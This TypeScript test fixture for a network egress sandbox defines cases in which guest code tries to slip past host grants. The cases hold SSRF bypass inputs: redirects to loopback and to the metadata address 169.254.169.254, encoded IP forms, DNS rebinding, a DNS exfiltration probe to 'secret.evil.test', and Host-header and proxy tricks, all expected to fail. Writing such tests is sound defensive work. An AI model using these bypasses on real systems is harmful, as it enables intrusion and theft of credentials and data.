/** One try of a guest, whom it may reach by it, and what it is to be told. */
export interface Case {
  readonly title: string;
  /** False: the run has no way out at all. */
  readonly hasGrant: boolean;
  readonly tool: "python" | "shell";
  readonly code: string;
  /** What the guest prints, whole or in part. */
  readonly prints: string;
  /** Addresses that something arrived at, of all that listen in the test's network; each once. */
  readonly reaches: readonly string[];
}

/** Where servers listen: on each of these, TCP 8080 and 80, and UDP 8080 and 53. */
export const PUBLIC = "93.184.216.34";
export const OTHER_PUBLIC = "93.184.216.35";
export const EVIL = "93.184.216.36";
export const PUBLIC_V6 = "2606:4700::1111";
export const LISTENING = [
  ...[PUBLIC, OTHER_PUBLIC, EVIL, PUBLIC_V6, "10.1.2.3", "192.168.7.7", "100.64.0.1", "169.254.169.254", "fd00::7"],
  ...["198.18.0.1", "198.18.1.0", "2001:db8::1"],
] as const;
export const ABSTRACT_NAME = "ztl-egress-test";

/** Where the names of the test lead. */
export const NAMES: Readonly<Record<string, readonly string[]>> = {
  "public.test": [PUBLIC],
  "v6.test": [PUBLIC_V6],
  "api.wild.test": [OTHER_PUBLIC],
  "wild.test": [OTHER_PUBLIC],
  "evil.test": [EVIL],
  "several.test": ["10.1.2.3", PUBLIC],
  "inside.test": ["127.0.0.1"],
  "elsewhere.test": ["127.0.0.2"],
  "loopback.test": ["127.0.0.1"],
  "loopback2.test": ["127.8.8.8"],
  "loopback-v6.test": ["::1"],
  "unspecified.test": ["0.0.0.0"],
  "unspecified-v6.test": ["::"],
  "private.test": ["10.1.2.3"],
  "lan.test": ["192.168.7.7"],
  "cgnat.test": ["100.64.0.1"],
  "metadata.test": ["169.254.169.254"],
  "unique-local.test": ["fd00::7"],
  "link-local.test": ["fe80::1"],
  "zone.test": ["fe80::1%lo"],
  "mapped.test": ["::ffff:127.0.0.1"],
  "mapped-hex.test": ["::ffff:7f00:1"],
  "compatible.test": ["::127.0.0.1"],
  "nat64.test": ["64:ff9b::7f00:1"],
  "six-to-four.test": ["2002:7f00:1::1"],
  "teredo.test": ["2001:0:7f00:1::1"],
  "multicast.test": ["224.0.0.1"],
  "broadcast.test": ["255.255.255.255"],
  "benchmark.test": ["198.18.0.1"],
  "documentation.test": ["2001:db8::1"],
  "decimal.test": ["2130706433"],
  "octal.test": ["0177.0.0.1"],
  "nowhere.test": [],
};
/** Names that may be asked for, wherever they lead. */
const ANYWHERE = Object.keys(NAMES).filter(
  (name) => !["wild.test", "api.wild.test", "evil.test", "inside.test", "elsewhere.test"].includes(name),
);
export const GRANTS = [
  ...[...ANYWHERE, "*.wild.test", "rebinding.test"].map((host) => ({ host, ports: [8080] })),
  ...["inside.test", "elsewhere.test"].map((host) => ({ host, ports: [8080], addresses: ["127.0.0.1"] })),
];

const TCP = (address: string, port = 8080): string => `tcp(${JSON.stringify(address)}, ${port})`;
const UDP = (address: string, port = 8080): string => `udp(${JSON.stringify(address)}, ${port})`;
const CURL = "curl -sS -m 5 -w ' %{http_code}'";

function python(title: string, code: string, prints: string, more: Partial<Case> = {}): Case {
  return { title, hasGrant: true, tool: "python", code, prints, reaches: [], ...more };
}

function shell(title: string, code: string, prints: string, reaches: readonly string[] = []): Case {
  return { title, hasGrant: true, tool: "shell", code: `${code} 2>&1`, prints, reaches };
}

const WITHOUT: readonly Case[] = [
  ...["127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1"].map((address) =>
    python(`this host's ${address}`, TCP(address), "ECONNREFUSED"),
  ),
  ...[PUBLIC, PUBLIC_V6, "10.1.2.3", "169.254.169.254", "fd00::7", `::ffff:${PUBLIC}`, "198.18.1.0", "198.18.0.1"].map(
    (address) => python(`TCP to ${address}`, TCP(address), "ENETUNREACH"),
  ),
  ...[PUBLIC, PUBLIC_V6, "224.0.0.1"].map((address) => python(`UDP to ${address}`, UDP(address), "ENETUNREACH")),
  python("the resolver that runs with a grant have", UDP("198.18.0.1", 53), "ENETUNREACH"),
  python("a granted name", "name('public.test')", "unknown"),
  python("ICMP", "made(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)", "E"),
  python("raw IP", "made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)", "EPERM"),
  python("packets", "made(socket.AF_PACKET, socket.SOCK_RAW)", "EPERM"),
  python("a Unix name of this host", `unix('\\0${ABSTRACT_NAME}')`, "ECONNREFUSED"),
].map((one) => ({ ...one, title: `without a grant: ${one.title}`, hasGrant: false }));

/** A name that may be asked for and leads where nothing may go. */
const LEADING_ASTRAY = Object.keys(NAMES)
  .filter((name) => ANYWHERE.includes(name) && !["public.test", "v6.test", "several.test"].includes(name))
  .map((name) =>
    python(`a granted name that leads to ${NAMES[name]?.[0] ?? "nothing"}`, `named('${name}')`, "EHOSTUNREACH"),
  );

const REDIRECTS = [
  ...["http://127.0.0.1:8080/", "http://[::1]:8080/", "http://0x7f.1:8080/", "http://2130706433:8080/"],
  ...[
    "http://[::ffff:127.0.0.1]:8080/",
    "http://169.254.169.254/",
    "http://evil.test:8080/",
    "http://loopback.test:8080/",
  ],
].map((to) =>
  shell(`a redirect to ${to}`, `${CURL} -L -o /dev/null 'http://public.test:8080/to?${to}'`, "curl: (", [PUBLIC]),
);

export const CASES: readonly Case[] = [
  ...WITHOUT,
  python("a granted name", "named('public.test')", "reached", { reaches: [PUBLIC] }),
  python("a granted name with an address of IPv6", "named('v6.test')", "reached", { reaches: [PUBLIC_V6] }),
  python("one below a granted name", "named('api.wild.test')", "reached", { reaches: [OTHER_PUBLIC] }),
  python("a granted loopback address", "named('inside.test')", "reached", { reaches: ["127.0.0.1"] }),
  python("of two addresses the public one", "named('several.test')", "reached", { reaches: [PUBLIC] }),
  python("the same by a socket of IPv6", "mapped('public.test')", "reached", { reaches: [PUBLIC] }),
  ...LEADING_ASTRAY,
  python("an address beside the granted range", "named('elsewhere.test')", "EHOSTUNREACH"),
  python("a port that is not granted", "named('public.test', 80)", "EHOSTUNREACH"),
  python("a name that is not granted", "name('evil.test')", "unknown"),
  python("the name itself, where what is below it is granted", "name('wild.test')", "unknown"),
  python("a name that only ends like a granted one", "name('notpublic.test')", "unknown"),
  python("a granted name before another", "name('public.test.evil.test')", "unknown"),
  ...[PUBLIC, PUBLIC_V6, "10.1.2.3", "169.254.169.254", "198.18.99.99", `::ffff:${PUBLIC}`].map((address) =>
    python(`TCP to ${address}, whatever was granted`, TCP(address), "ENETUNREACH"),
  ),
  python("this host's loopback", TCP("127.0.0.1"), "ECONNREFUSED"),
  python("UDP to a granted host", UDP(PUBLIC), "ENETUNREACH"),
  python("UDP to the address of a granted name", "udp(address('public.test'), 8080)", "ENETUNREACH"),
  python("TCP to the resolver", TCP("198.18.0.1", 53), "ENETUNREACH"),
  python("another port of the resolver", UDP("198.18.0.1", 54), "ENETUNREACH"),
  python("another resolver", UDP(PUBLIC, 53), "ENETUNREACH"),
  python("a secret in a question", "name('secret.evil.test')", "unknown"),
  python("raw IP", "made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)", "EPERM"),
  python("a Unix name of this host", `unix('\\0${ABSTRACT_NAME}')`, "ECONNREFUSED"),
  python(
    "a name that changes its mind",
    "named('rebinding.test') + ' ' + named('rebinding.test')",
    "reached EHOSTUNREACH",
    {
      reaches: [PUBLIC],
    },
  ),
  ...REDIRECTS,
  shell("a redirect to a granted name", `${CURL} -L 'http://public.test:8080/to?http://api.wild.test:8080/'`, "200", [
    PUBLIC,
    OTHER_PUBLIC,
  ]),
  shell("userinfo that looks like a granted name", `${CURL} 'http://public.test@evil.test:8080/'`, "curl: (6)"),
  shell("userinfo that looks like another", `${CURL} 'http://evil.test@public.test:8080/'`, "200", [PUBLIC]),
  ...["0x7f.1", "2130706433", "0177.0.0.1", "127.1"].map((host) =>
    shell(`a host written as ${host}`, `${CURL} 'http://${host}:8080/'`, "curl: ("),
  ),
  shell(
    "a Host header that differs goes where the name leads",
    `${CURL} -H 'Host: evil.test' http://public.test:8080/`,
    "200",
    [PUBLIC],
  ),
  shell(
    "a request in absolute form goes where the name leads",
    `${CURL} --request-target http://evil.test:8080/ http://public.test:8080/`,
    "200",
    [PUBLIC],
  ),
  shell(
    "a TLS name that differs goes where the name leads",
    `${CURL} -k --connect-to evil.test:443:public.test:8080 https://evil.test/`,
    "curl: (",
    [PUBLIC],
  ),
  ...["http://evil.test:8080", "http://127.0.0.1:8080", `http://${PUBLIC}:8080`, "socks5h://evil.test:8080"].map(
    (proxy) => shell(`the proxy ${proxy}`, `${CURL} -x ${proxy} http://public.test:8080/`, "curl: ("),
  ),
];
